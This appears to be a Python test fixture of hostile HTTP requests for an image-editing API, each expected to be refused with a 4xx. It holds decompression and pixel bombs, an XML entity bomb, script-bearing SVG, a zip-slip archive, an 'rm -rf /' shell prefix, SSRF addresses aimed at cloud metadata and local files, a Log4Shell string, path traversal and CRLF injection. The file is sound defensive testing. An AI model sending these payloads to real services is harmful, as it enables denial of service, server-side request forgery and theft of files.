"""Requests that mean harm, byte for byte as they go over the wire: each has to be answered with a 4xx."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import socket
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

import numpy as np
from PIL import Image, PngImagePlugin

PATH = "/v1/images/edits"
BOUNDARY = "b0undary"
FORM_TYPE = f"multipart/form-data; boundary={BOUNDARY}"


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One request."""

    body: bytes = b""
    content_type: str | None = FORM_TYPE
    headers: Mapping[str, str] = field(default_factory=dict[str, str])
    method: str = "POST"
    path: str = PATH
    length: str | None = None
    """The content-length that is claimed; the true one without it."""
    raw: bytes | None = None
    """All of it, where it is no HTTP that a library would send."""

    def wire(self) -> bytes:
        if self.raw is not None:
            return self.raw
        headers = {"host": "127.0.0.1", **self.headers}
        if self.content_type is not None:
            headers["content-type"] = self.content_type
        if "transfer-encoding" not in headers:
            headers["content-length"] = str(len(self.body)) if self.length is None else self.length
        lines = [f"{self.method} {self.path} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
        return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + self.body


def part(name: str, value: bytes, extra: str = "", filename: str | None = None) -> bytes:
    file = "" if filename is None else f'; filename="{filename}"'
    return (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"{file}\r\n{extra}\r\n'.encode() + value + b"\r\n"
    )


def form(image: bytes | None = None, /, **fields: str | bytes) -> bytes:
    parts = [part("image", picture() if image is None else image, filename="a.png")]
    for name, value in {"prompt": "make it red", **fields}.items():
        parts.append(part(name, value.encode() if isinstance(value, str) else value))
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


def encoded(image: Image.Image, file_format: str = "PNG", **options: Any) -> bytes:
    file = io.BytesIO()
    image.save(file, file_format, **options)
    return file.getvalue()


def noise(width: int = 32, height: int = 32) -> Image.Image:
    return Image.fromarray(np.random.default_rng(5).integers(0, 256, (height, width, 3), dtype=np.uint8))


def picture() -> bytes:
    return encoded(noise())


def png(width: int, height: int, *, depth: int = 1, colour: int = 0, data: bytes = b"\0" * 1000) -> bytes:
    """A PNG that claims what it likes."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def jpeg_of_size(width: int, height: int) -> bytes:
    data = bytearray(encoded(noise(), "JPEG"))
    place = data.index(b"\xff\xc0") + 5
    data[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_of_size(width: int, height: int) -> bytes:
    """An extended WebP whose canvas is larger than what it holds."""
    inner = encoded(noise(), "WEBP")[12:]
    canvas = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    extended = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + canvas
    return b"RIFF" + struct.pack("<I", 4 + len(extended) + len(inner)) + b"WEBP" + extended + inner


def many_scans(count: int) -> bytes:
    """A progressive JPEG whose last scan comes again and again: small to send, long to decode."""
    data = encoded(noise(64, 64), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * count + b"\xff\xd9"


def text_bomb() -> bytes:
    """A PNG with a comment of 64 MB, packed into 64 KB."""
    info = PngImagePlugin.PngInfo()
    info.add_text("comment", "x" * (64 << 20), zip=True)
    return encoded(noise(), pnginfo=info)


def zipped() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../../etc/cron.d/x", "hello")
    return file.getvalue()


def images() -> Iterator[tuple[str, bytes]]:
    """Files that are no image that may be edited."""
    whole, large = picture(), noise(200, 200)
    yield "empty", b""
    yield "text", b"hello"
    yield "html", b"<html><script>alert(1)</script></html>"
    yield "svg", b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>alert(1)</script></svg>"
    yield "svg with an entity bomb", b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><svg>&c;</svg>'
    yield "gif", encoded(noise(), "GIF")
    yield "bmp", encoded(noise(), "BMP")
    yield "tiff", encoded(noise(), "TIFF")
    yield "ico", encoded(noise(), "ICO")
    yield "eps, which Ghostscript would run", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n"
    yield "pdf", encoded(noise(), "PDF")
    yield "zip with a path", zipped()
    yield "gzip of a png", gzip.compress(whole)
    yield "pickle", pickle.dumps({"image": 1})
    yield "gif before a png", b"GIF89a" + whole
    yield "pdf before a jpeg", b"%PDF-1.4\n" + encoded(noise(), "JPEG")
    yield "script before a png", b"#!/bin/sh\nrm -rf /\n" + whole
    yield "png signature only", whole[:8]
    yield "png header only", whole[:33]
    yield "truncated png", encoded(large)[:5000]
    yield "truncated jpeg", encoded(large, "JPEG")[:3000]
    yield "truncated webp", encoded(large, "WEBP")[:300]
    yield "png with flipped bits", whole[:100] + b"\xff" * 200 + whole[300:]
    yield "png with a wrong checksum", whole[:29] + b"\0\0\0\0" + whole[33:]
    yield "png without pixels", png(0, 10)
    yield "png of an unknown depth", png(8, 8, depth=77)
    yield "png that claims more than it holds", png(300, 300)
    yield "png with a comment that is a bomb", text_bomb()
    yield "jpeg that claims 65500 a side", jpeg_of_size(65500, 65500)
    yield "jpeg of thousands of scans", many_scans(5000)
    yield "webp that claims 16383 a side", webp_of_size(16383, 16383)
    yield "bomb above Pillow's own limit", png(60_000, 60_000)
    yield "bomb below Pillow's own limit", png(9_000, 9_000)
    yield "bomb of 400 megapixels in 49 KB", encoded(Image.new("1", (20_000, 20_000)))
    yield "bomb of 81 megapixels in colour", encoded(Image.new("RGB", (9_000, 9_000)))
    yield "strip of one pixel's height", encoded(Image.new("L", (10_000, 1)))
    yield "thin strip", encoded(Image.new("L", (900, 100)))


FIELDS: dict[str, dict[str, str | bytes]] = {
    "steps of 5000 digits": {"num_inference_steps": "9" * 5000},
    "a million steps": {"num_inference_steps": "1000000"},
    "negative steps": {"num_inference_steps": "-1"},
    "half a step": {"num_inference_steps": "0.5"},
    "hexadecimal seed": {"seed": "0x10"},
    "negative seed": {"seed": "-1"},
    "seed beyond 32 bits": {"seed": str(2**64)},
    "infinite guidance": {"guidance_scale": "1e999"},
    "guidance that is no number": {"guidance_scale": "nan"},
    "guidance of a million": {"image_guidance_scale": "1000000"},
    "ten thousand images": {"n": "10000"},
    "no time at all": {"timeout": "-5"},
    "prompt of 200 KB": {"prompt": "x" * 200_000},
    "prompt of 300 KB": {"prompt": "x" * 300_000},
    "empty prompt": {"prompt": ""},
    "prompt of blanks": {"prompt": " \u2003\u00a0\t\r\n"},
    "prompt that cannot be seen": {"prompt": "\u200b\u200d\ufeff\u2060"},
    "prompt with a NUL": {"prompt": "make it\0red"},
    "prompt that rings": {"prompt": "make it \x07\x1b[2J red"},
    "prompt that is no UTF-8": {"prompt": b"\xff\xfe\xfd make it red"},
    "template in the model's name": {"model": "{{7*7}}${jndi:ldap://x/a}"},
    "path in the model's name": {"model": "../../../../etc/passwd"},
    "registry path in the model's name": {"model": "models:/other/1"},
    "unknown size": {"size": "99999999x99999999"},
    "negative size": {"size": "-1x-1"},
    "unknown format": {"output_format": "../../a.php"},
    "unknown field": {"__proto__": "x"},
    "field to profile by": {"perf_dump_path": "/etc/x"},
    "field in a strange alphabet": {"pr\u03bfmpt": "omicron for o"},
}


def parts() -> Iterator[tuple[str, Hostile]]:
    """Forms that are broken or too much."""
    end = f"--{BOUNDARY}--\r\n".encode()
    image = part("image", picture(), filename="a.png")
    yield "no boundary", Hostile(body=form(), content_type="multipart/form-data")
    yield "empty boundary", Hostile(body=form(), content_type="multipart/form-data; boundary=")
    yield "another boundary", Hostile(body=form(), content_type="multipart/form-data; boundary=other")
    yield "boundary of 100 KB", Hostile(body=form(), content_type=f"multipart/form-data; boundary={'b' * 100_000}")
    yield "form that ends early", Hostile(body=form()[:-300])
    yield "empty body", Hostile()
    yield "part without a name", Hostile(body=f"--{BOUNDARY}\r\n\r\nx\r\n".encode() + end)
    yield "headers without an end", Hostile(body=f"--{BOUNDARY}\r\n".encode() + b"A: b\r\n" * 50_000)
    yield "header of 1 MB", Hostile(body=part("prompt", b"x", extra=f"X: {'y' * 2**20}\r\n") + image + end)
    yield "thousand files", Hostile(body=image * 1000 + end)
    yield "thousand fields", Hostile(body=b"".join(part(f"f{i}", b"x") for i in range(1000)) + image + end)
    yield "prompt twice", Hostile(body=part("prompt", b"x") * 2 + image + end)
    yield "prompt as a file", Hostile(body=part("prompt", b"x", filename="a.txt") + image + end)
    yield "image as text", Hostile(body=part("image", b"data:image/png;base64,AAAA") + part("prompt", b"x") + end)
    yield "image in base64", Hostile(body=form(b"iVBORw0KGgo="))
    yield (
        "mixed inside a form",
        Hostile(body=part("image", b"x", extra="Content-Type: multipart/mixed; boundary=c\r\n", filename="a") + end),
    )
    # Punycode takes quadratic time; other codecs unpack what they are given.
    for charset in ("punycode", "idna", "utf-16", "utf-7", "zlib"):
        yield (
            f"charset {charset}",
            Hostile(body=form(prompt="x-" + "a" * 250_000), content_type=f"{FORM_TYPE}; charset={charset}"),
        )
    yield "zipped body", Hostile(body=gzip.compress(form()), headers={"content-encoding": "gzip"})
    yield "other type", Hostile(body=form(), content_type="text/plain")
    yield "urlencoded", Hostile(body=b"prompt=x&image=y", content_type="application/x-www-form-urlencoded")
    yield "xml", Hostile(body=b"<x/>", content_type="application/xml")
    yield "no type", Hostile(body=form(), content_type=None)


def json_body(content: object) -> Hostile:
    body = content if isinstance(content, bytes) else json.dumps(content).encode()
    return Hostile(body=body, content_type="application/json")


def jsons() -> Iterator[tuple[str, Hostile]]:
    """JSON that is deep, huge, of the wrong kind, or has addresses in it that nobody may ask."""
    yield "json of depth 100,000", json_body(b'{"prompt": ' + b"[" * 100_000)
    yield "json objects of depth 100,000", json_body(b'{"a":' * 100_000 + b"1" + b"}" * 100_000)
    yield "json number of a million digits", json_body(b'{"prompt": "x", "seed": ' + b"9" * 1_000_000 + b"}")
    yield "json that is no number", json_body(b'{"prompt": "x", "guidance_scale": NaN}')
    yield "json with half a surrogate", json_body(b'{"prompt": "\\ud800"}')
    yield "json in UTF-16", json_body('{"prompt": "x"}'.encode("utf-16"))
    yield "json that is no UTF-8", json_body(b'{"prompt": "\xff\xfe"}')
    yield "broken json", json_body(b'{"prompt": "x"')
    for text in (b"", b"null", b"[]", b'"x"', b"1", b"true"):
        yield f"json {text.decode() or 'of nothing'}", json_body(text)
    yield "json with lists for texts", json_body({"prompt": ["x"], "images": "x"})
    for address in (
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:8265/api/jobs/",
        "http://[::1]/",
        "http://0x7f000001/",
        "http://2130706433/",
        "http://localhost.:80/",
        "http://user@127.0.0.1@example.com/",
        "https://example.com\\@127.0.0.1/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_x",
        "data:text/html;base64,AAAA",
        "data:image/png;base64,!!!!",
        "data:image/png;base64," + "A" * 100_000,
        "",
    ):
        yield f"address {address[:50] or 'of nothing'}", json_body({"prompt": "x", "images": [{"image_url": address}]})
    yield "many addresses", json_body({"prompt": "x", "images": [{"image_url": "http://127.0.0.1/"}] * 10_000})
    yield "file id", json_body({"prompt": "x", "images": [{"file_id": "../../etc/passwd"}]})


def heads() -> Iterator[tuple[str, Hostile]]:
    """What is wrong before there is a body."""
    yield "claims 21 MB", Hostile(length=str(21 << 20))
    yield "claims 10 exabytes", Hostile(length=str(10**19))
    yield (
        "sends 21 MB in pieces",
        Hostile(
            headers={"transfer-encoding": "chunked"}, body=(b"100000\r\n" + b"x" * 2**20 + b"\r\n") * 21 + b"0\r\n\r\n"
        ),
    )
    yield "negative length", Hostile(length="-5")
    yield "length in words", Hostile(length="five")
    yield "piece without a length", Hostile(headers={"transfer-encoding": "chunked"}, body=b"zz\r\nabc\r\n")
    yield "header of 200 KB", Hostile(body=form(), headers={"x-long": "y" * 200_000})
    yield "5,000 headers", Hostile(body=form(), headers={f"x-{index}": "y" * 20 for index in range(5000)})
    yield "no HTTP", Hostile(raw=b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500)
    yield "unknown version", Hostile(raw=b"GET / HTTP/9.9\r\n\r\n")
    yield "name with a blank", Hostile(raw=b"POST /v1/images/edits HTTP/1.1\r\nhost : 127.0.0.1\r\n\r\n")
    yield "wrong timeout", Hostile(body=form(), headers={"x-request-timeout": "-1"})
    yield "get", Hostile(method="GET", content_type=None)
    yield "delete", Hostile(method="DELETE", content_type=None)
    yield "trace", Hostile(method="TRACE", content_type=None)
    yield "unknown method", Hostile(method="PROPFIND", content_type=None)
    for path in (
        "/page/../../pyproject.toml",
        "/page/..%2f..%2f..%2fetc/passwd",
        "/page/%2e%2e/%2e%2e/settings.py",
        "/page//etc/passwd",
        "/page/%00",
        "/page/..%5c..%5csettings.py",
        "/page/" + "a" * 5000,
        "/" + "x" * 60_000,
        "/%ff%fe",
        "/.env",
        "/page/example.json?seed=" + "9" * 5000,
        "/page/example.json?seed=%00",
    ):
        yield f"path {path[:40]}", Hostile(method="GET", path=path, content_type=None)


def jobs() -> Iterator[tuple[str, Hostile]]:
    """Jobs that cannot be, of others, or that are not there."""
    jobs = f"{PATH}/jobs/"
    for name in ("..", "..%2f..%2fetc%2fpasswd", "%00", "a%0d%0aset-cookie:%20x", "a" * 200, "%ff", "a%20b", "-rf", ""):
        yield f"id {name[:30] or 'of nothing'}", Hostile(method="PUT", path=jobs + name, body=form())
    yield "no image", Hostile(method="PUT", path=jobs + "a", body=form(b""))
    for address in (
        "http://127.0.0.1:8265/api/jobs/",
        "http://169.254.169.254/",
        "file:///etc/passwd",
        "x" * 5000,
        "\0",
    ):
        yield f"webhook {address[:30]}", Hostile(method="PUT", path=jobs + "a", body=form(None, webhook=address))
    yield "bomb", Hostile(method="PUT", path=jobs + "a", body=form(encoded(Image.new("1", (20_000, 20_000)))))
    yield "stream", Hostile(method="PUT", path=jobs + "a", body=form(None, stream="true"))
    yield "unknown field", Hostile(method="PUT", path=jobs + "a", body=form(None, owner="me"))
    yield "claims 21 MB", Hostile(method="PUT", path=jobs + "a", length=str(21 << 20))
    yield "another method", Hostile(method="DELETE", path=jobs + "a", content_type=None)
    yield "a form where a body has no place", Hostile(path=jobs + "a/cancel", body=form())
    yield "unknown id", Hostile(method="GET", path=jobs + "a", content_type=None)
    for query in ("limit=1000000", "after=../a", "after=%00", "status=*", "scope=another", "limit=1&limit=x"):
        yield f"list {query}", Hostile(method="GET", path=f"{jobs[:-1]}?{query}", content_type=None)
    yield "list by pattern", Hostile(method="GET", path=jobs + "*", content_type=None)


def corpus() -> dict[str, Hostile]:
    """All of them by name."""
    found = {f"image: {name}": Hostile(body=form(data)) for name, data in images()}
    found |= {f"field: {name}": Hostile(body=form(None, **fields)) for name, fields in FIELDS.items()}
    for kind, cases in (("form", parts()), ("json", jsons()), ("head", heads()), ("job", jobs())):
        found |= {f"{kind}: {name}": case for name, case in cases}
    return found


def status_of(address: tuple[str, int], wire: bytes, *, seconds: float = 20.0, pause: float = 0.0) -> int:
    """Send a request and read the status of its answer; 0 where the connection ends without one.

    Args:
        address: the server's.
        wire: all that is sent.
        seconds: to wait for the answer.
        pause: seconds between every two thirds of it.
    """
    with socket.create_connection(address, timeout=seconds) as connection:
        try:
            third = len(wire) // 3 if pause else len(wire)
            for start in range(0, len(wire), max(third, 1)):
                connection.sendall(wire[start : start + third])
                time.sleep(pause)
        except OSError:
            pass  # It has heard enough; its answer may be there all the same.
        try:
            line = connection.recv(64)
        except OSError:
            return 0
    words = line.split(b" ")
    return int(words[1]) if len(words) > 1 and words[1].isdigit() else 0
